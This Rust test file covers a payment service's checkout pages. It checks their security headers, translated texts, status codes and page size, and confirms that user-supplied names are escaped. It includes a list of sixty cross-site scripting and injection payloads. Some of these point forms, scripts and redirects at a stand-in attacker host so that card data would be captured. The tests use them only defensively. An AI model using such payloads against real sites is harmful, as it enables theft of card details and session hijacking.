//! Tests: every page there is, in every language, made from payments that a shop could have.
//! With `ALTYN_GALLERY=folder` the pages are written there, to be looked at.

mod scenes;

use std::path::Path;

use altyn_domain::{Bucket, DeclineCode, Language, MethodKind, PaymentId};
use axum::response::Response;
use http_body_util::BodyExt as _;

use super::assets;
use super::card_form::Kept;
use super::manner::Manner;
use super::pages::{self, Filled};
use super::visit::View;
use crate::texts::Texts;
use scenes::{NOW, USUAL, Wording, payment, project, render, scenes};

async fn text_of(response: Response) -> String {
    let bytes = response.into_body().collect().await.unwrap().to_bytes();
    String::from_utf8(bytes.to_vec()).unwrap()
}

/// Pages that belong to no payment.
fn lone_pages(language: Language) -> Vec<(&'static str, Response)> {
    let busy = altyn_engine::EngineError::Busy;
    let no_method = altyn_domain::Refusal::MethodUnavailable.into();
    let id = Some(PaymentId::new(NOW, Bucket::new(7), 42));
    vec![
        ("unknown", pages::unknown_order("", language)),
        ("busy", pages::trouble("", id, language, &busy)),
        ("no-method", pages::trouble("", id, language, &no_method)),
    ]
}

#[tokio::test]
async fn every_page_exists_in_every_language() {
    let project = project(USUAL);
    let folder = std::env::var_os("ALTYN_GALLERY");
    for language in Language::ALL {
        let made = scenes(USUAL)
            .into_iter()
            .map(|scene| (scene.name, render(&scene, &project, language)));
        for (name, response) in made.chain(lone_pages(language)) {
            let policy = response.headers()["content-security-policy"]
                .to_str()
                .unwrap();
            assert!(
                policy.starts_with("default-src 'none'; script-src 'self';"),
                "{name}"
            );
            assert!(!policy.contains("unsafe"), "{name}");
            for (header, value) in [
                ("cache-control", "no-store"),
                ("referrer-policy", "same-origin"),
                ("x-content-type-options", "nosniff"),
                ("cross-origin-opener-policy", "same-origin"),
            ] {
                assert_eq!(response.headers()[header], value, "{name}");
            }
            let is_framed = name.starts_with("framed");
            let frames = response.headers().get("x-frame-options");
            assert_eq!(frames.is_none(), is_framed, "{name}: {frames:?}");
            let reaches_out = name.starts_with("steps") || name.starts_with("away");
            let names_others = policy.contains("https://");
            assert_eq!(names_others, reaches_out || is_framed, "{name}: {policy}");
            let status = response.status().as_u16();
            let text = text_of(response).await;
            assert!(
                text.contains(&format!("<html lang=\"{}\">", language.code())),
                "{name}: {status} {text}"
            );
            assert!(
                text.contains("<h1") && text.contains("integrity=\"sha384-"),
                "{name}"
            );
            // The script puts the one value in that changes while the page is looked at.
            let filled = text.replace(Texts::of(language).returning, "");
            assert!(!filled.contains("{}"), "{name}: a value is missing");
            assert_eq!(status, expected_status(name), "{name}");
            if let Some(folder) = &folder {
                let file = format!("{name}-{}.html", language.code());
                std::fs::write(Path::new(folder).join(file), text).unwrap();
            }
        }
    }
    if let Some(folder) = &folder {
        assets::write_to(Path::new(folder));
    }
}

#[test]
fn every_text_is_there_and_every_decline_has_words_of_its_own() {
    let codes = DeclineCode::ALL;
    let mut words = std::collections::BTreeSet::new();
    let mut wallet_words = std::collections::BTreeSet::new();
    for language in Language::ALL {
        let texts = Texts::of(language);
        assert_eq!(texts.language, language);
        assert!(
            !format!("{texts:?}").contains("\"\""),
            "{language:?}: a text is empty"
        );
        words.extend(codes.map(|code| texts.decline(code, MethodKind::Card)));
        wallet_words.extend(codes.map(|code| texts.decline(code, MethodKind::Wallet)));
    }
    // Words about cards are no use to somebody who pays without one.
    let about_cards = ["карт", "card"];
    for text in wallet_words {
        let lower = text.to_lowercase();
        assert!(
            !about_cards.iter().any(|word| lower.contains(word)),
            "{text}"
        );
    }
    assert_eq!(words.len(), codes.len() * Language::ALL.len());
}

fn expected_status(name: &str) -> u16 {
    match name {
        "unknown" => 404,
        "busy" | "no-method" => 503,
        "form-wrong" | "methods-wrong" => 422,
        _ => 200,
    }
}

#[tokio::test]
async fn a_wrong_form_names_its_fields_and_shows_no_digit_of_the_card() {
    let scenes = scenes(USUAL);
    let wrong = scenes
        .iter()
        .find(|scene| scene.name == "form-wrong")
        .unwrap();
    let text = text_of(render(wrong, &project(USUAL), Language::En)).await;
    for words in [
        "A digit is wrong: check the number.",
        "Card has expired.",
        "Enter 3 digits.",
        "value=\"10/26\"",
        "value=\"A SERIKOVA\"",
    ] {
        assert!(text.contains(words), "{words}");
    }
    assert_eq!(text.matches("aria-invalid=\"true\"").count(), 3);
    assert!(!text.contains("4444"));
    assert_eq!(text.matches(" autofocus").count(), 1);
}

/// Life-cycle row 3: a failure that ends the payment because its time is over is told with that.
#[tokio::test]
async fn an_expired_page_tells_why_the_last_try_failed() {
    let scenes = scenes(USUAL);
    let project = project(USUAL);
    let page = async |name| {
        let scene = scenes.iter().find(|scene| scene.name == name).unwrap();
        text_of(render(scene, &project, Language::En)).await
    };
    let texts = Texts::of(Language::En);
    let code = DeclineCode::InsufficientFunds;
    let why = texts.decline(code, MethodKind::Card);
    let gateway = crate::texts::fill(texts.gateway_says, USUAL.holder);
    let declined = page("expired-declined").await;
    let mut found = Vec::new();
    for words in [texts.expired.title, why, &gateway, texts.expired.text] {
        let place = declined.rfind(words);
        found.push(place.unwrap_or_else(|| panic!("{words} in {declined}")));
    }
    assert!(found.is_sorted(), "{declined}");
    for name in ["expired", "expired-unanswered"] {
        let text = page(name).await;
        assert!(text.contains(texts.expired.text), "{name}: {text}");
        assert!(!text.contains(why), "{name}: {text}");
    }
}

/// What somebody might call a shop, an order or themselves. None of it may become markup.
const HOSTILE: [&str; 60] = [
    "<script>alert(1)</script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script src=//evil.example></script>",
    "<scr<script>ipt>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror=alert(1)//",
    "<img/src/onerror=alert(1)>",
    "<image href=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x>",
    "<math><mtext></form><form><mglyph><svg><mtext><style><path id=\"</style><img onerror=alert(1) src>\">",
    "<body onload=alert(1)>",
    "<iframe src=javascript:alert(1)>",
    "<iframe srcdoc=\"<script>alert(1)</script>\">",
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href=\"jav&#x09;ascript:alert(1)\">x</a>",
    "<form action=//evil.example><input name=cc-number>",
    "</form><form action=//evil.example>",
    "<input autofocus onfocus=alert(1)>",
    "<button formaction=//evil.example>",
    "<select onfocus=alert(1) autofocus>",
    "<textarea onfocus=alert(1) autofocus>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example>",
    "<style>*{background:url(//evil.example)}</style>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</noscript><script>alert(1)</script>",
    "--><script>alert(1)</script>",
    "<!--<script>alert(1)//-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version=\"1.0\"?><script>alert(1)</script>",
    "\"><script>alert(1)</script>",
    "'><script>alert(1)</script>",
    "\" onmouseover=\"alert(1)",
    "' onmouseover='alert(1)",
    "\" autofocus onfocus=\"alert(1)",
    "\" style=\"background:url(//evil.example)",
    "` onmouseover=alert(1)",
    "{{constructor.constructor('alert(1)')()}}",
    "${alert(1)}",
    "#{7*7}<%= 7*7 %>",
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)",
    "\u{202e}<script>alert(1)</script>",
    "\u{0}<script>alert(1)</script>",
    "\u{ff1c}script\u{ff1e}<script\u{b}>alert(1)</script>",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-<b>",
];

/// Tags and attributes of a page, without what stands between tags. A `>` within quotes ends no tag.
fn markup_of(text: &str) -> String {
    let mut markup = String::new();
    let (mut is_inside, mut is_quoted) = (false, false);
    for c in text.chars() {
        match c {
            '<' if !is_inside => is_inside = true,
            '"' if is_inside => is_quoted = !is_quoted,
            '>' if is_inside && !is_quoted => {
                is_inside = false;
                markup.push('\n');
            }
            _ => {}
        }
        if is_inside && (!is_quoted || c == '"') {
            markup.push(c);
        }
    }
    markup
}

#[tokio::test]
async fn nothing_that_others_wrote_becomes_markup() {
    let harmless = Wording {
        shop: "shop",
        wallet: "wallet",
        number: "number",
        description: "description",
        holder: "HOLDER",
    };
    let expected = scenes(harmless);
    for payload in HOSTILE {
        let hostile = Wording {
            shop: payload,
            wallet: payload,
            number: payload,
            description: payload,
            holder: payload,
        };
        for (scene, plain) in scenes(hostile).iter().zip(&expected) {
            let made = text_of(render(scene, &project(hostile), Language::Ru)).await;
            let usual = text_of(render(plain, &project(harmless), Language::Ru)).await;
            assert_eq!(
                markup_of(&made),
                markup_of(&usual),
                "{}: {payload}",
                scene.name
            );
        }
    }
}

#[tokio::test]
async fn a_name_on_the_card_comes_back_escaped() {
    let project = project(USUAL);
    let payment = payment(USUAL);
    let view = View {
        base: "",
        payment: &payment,
        project: &project,
        language: Language::En,
        now: NOW,
        back: None,
        manner: Manner::default(),
    };
    for payload in HOSTILE {
        let kept = |holder: &str| Kept {
            expiry: String::new(),
            holder: holder.to_owned(),
        };
        let filled = |holder| Filled {
            kept: kept(holder),
            ..Filled::default()
        };
        let made = text_of(pages::form(&view, &filled(payload))).await;
        let usual = text_of(pages::form(&view, &filled("A"))).await;
        assert_eq!(markup_of(&made), markup_of(&usual), "{payload}");
    }
}

#[tokio::test]
async fn the_steps_page_allows_the_issuer_alone() {
    for scene in scenes(USUAL)
        .iter()
        .filter(|scene| scene.name.starts_with("steps-"))
    {
        let response = render(scene, &project(USUAL), Language::Ru);
        let policy = response.headers()["content-security-policy"]
            .to_str()
            .unwrap();
        let (frames, forms) = match scene.name {
            "steps-method" => ("'self' https://acs.example", "'self' https://acs.example"),
            _ => ("'none'", "'self' https://acs.example"),
        };
        let expected = format!("frame-src {frames}; form-action {forms}; frame-ancestors 'none';");
        assert!(policy.contains(&expected), "{}: {policy}", scene.name);
    }
    for scene in scenes(USUAL)
        .iter()
        .filter(|scene| scene.name.starts_with("away"))
    {
        let response = render(scene, &project(USUAL), Language::Ru);
        let policy = response.headers()["content-security-policy"]
            .to_str()
            .unwrap();
        let expected = "frame-src 'none'; form-action 'self' https://wallet.example; ";
        assert!(policy.contains(expected), "{}: {policy}", scene.name);
    }
    let framed = pages::method_frame("", None);
    let policy = framed.headers()["content-security-policy"]
        .to_str()
        .unwrap();
    assert!(policy.contains("frame-ancestors 'self'") && !policy.contains("https:"));
}

#[tokio::test]
async fn the_first_view_weighs_little() {
    let scenes = scenes(USUAL);
    let form = scenes.iter().find(|scene| scene.name == "form").unwrap();
    // The page itself is compressed on its way; even uncompressed all of it stays within the limit.
    let page = text_of(render(form, &project(USUAL), Language::Kk))
        .await
        .len();
    let bytes = page + assets::STYLE.gzip_len() + assets::SCRIPT.gzip_len();
    assert!(bytes < 24 * 1024, "{bytes} bytes");
}
